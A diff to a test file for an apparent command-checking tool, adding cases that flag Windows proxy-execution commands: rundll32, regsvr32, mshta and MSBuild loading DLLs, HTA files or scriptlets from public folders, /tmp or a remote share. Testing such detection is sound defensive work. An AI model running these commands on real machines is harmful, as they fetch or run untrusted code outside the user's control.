@@ -1,6 +1,8 @@
 /**
  * .NET's signed tools made to run code (src/extract/shell-proxy-exec.ts): InstallUtil, RegAsm,
- * RegSvcs and MSBuild given a file outside the project (or InstallUtil told to log nothing).
+ * RegSvcs and MSBuild given a file outside the project (or InstallUtil told to log nothing);
+ * regsvr32, rundll32, cmstp and mshta, with files read from code-loading switch values and
+ * POSIX paths told from switches.
  * Through the real pipeline with the shell pack only; the project's own builds stay allowed.
  */
 import { describe, expect, it } from 'vitest';
@@ -44,6 +46,36 @@ describe("Windows' library and profile runners (shell pack)", () => {
     ['rundll32 shell32.dll,Control_RunDLL desk.cpl', 'allow'],
     ['rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL', 'allow'],
     ['regsvr32 /s build\\Release\\MyComponent.dll', 'allow'],
+  ])('%s → %s', async (cmd, want) => {
+    expect(await verdict(cmd)).toBe(want);
+  });
+});
+
+describe('switch values and POSIX paths (shell pack)', () => {
+  it.each([
+    // a word with a second `/` or a library's ending is a path (Git Bash), not a switch
+    ['rundll32 /c/Users/Public/x.dll,Start', ASK],
+    ['rundll32.exe /tmp/payload.dll,DllMain', ASK],
+    ['regsvr32 /s /c/Users/Public/evil.dll', ASK],
+    ['regsvr32 /s /u /x.dll', ASK],
+    ['mshta /c/Users/Public/a.hta', ASK],
+    ["mshta 'C:\\Users\\Public\\a.hta'", ASK],
+    // the scriptlet regsvr32 /i: hands to scrobj.dll, from a share or a folder elsewhere
+    [
+      "regsvr32.exe /s /i:'\\\\203.0.113.5\\share\\x.sct' scrobj.dll",
+      'ask shell/download-exec,shell/proxy-exec',
+    ],
+    ['regsvr32.exe /s /i:\\\\203.0.113.5\\share\\x.sct scrobj.dll', ASK],
+    ["regsvr32 /s /n /u /i:'C:\\Users\\Public\\x.sct' scrobj.dll", ASK],
+    ['regsvr32 /s /n /i:/tmp/x.sct scrobj.dll', ASK],
+    // MSBuild's logger assembly runs in the build
+    ["msbuild App.sln '-logger:XLog,C:\\Users\\Public\\l.dll;verbosity=diag'", ASK],
+    // switches stay switches; the project's own files stay allowed
+    ['regsvr32 /s /n /i:U build/Release/MyComponent.dll', 'allow'],
+    ['regsvr32 /s ./build/my.dll', 'allow'],
+    ['rundll32 ./build/plugin.dll,SelfTest', 'allow'],
+    ['msbuild App.sln /p:OutDir=/tmp/out/ /m:4 -logger:XLog,tools/l.dll', 'allow'],
+    ['regsvr32 /?', 'allow'],
   ])('%s → %s', async (cmd, want) => {
     expect(await verdict(cmd)).toBe(want);
   });
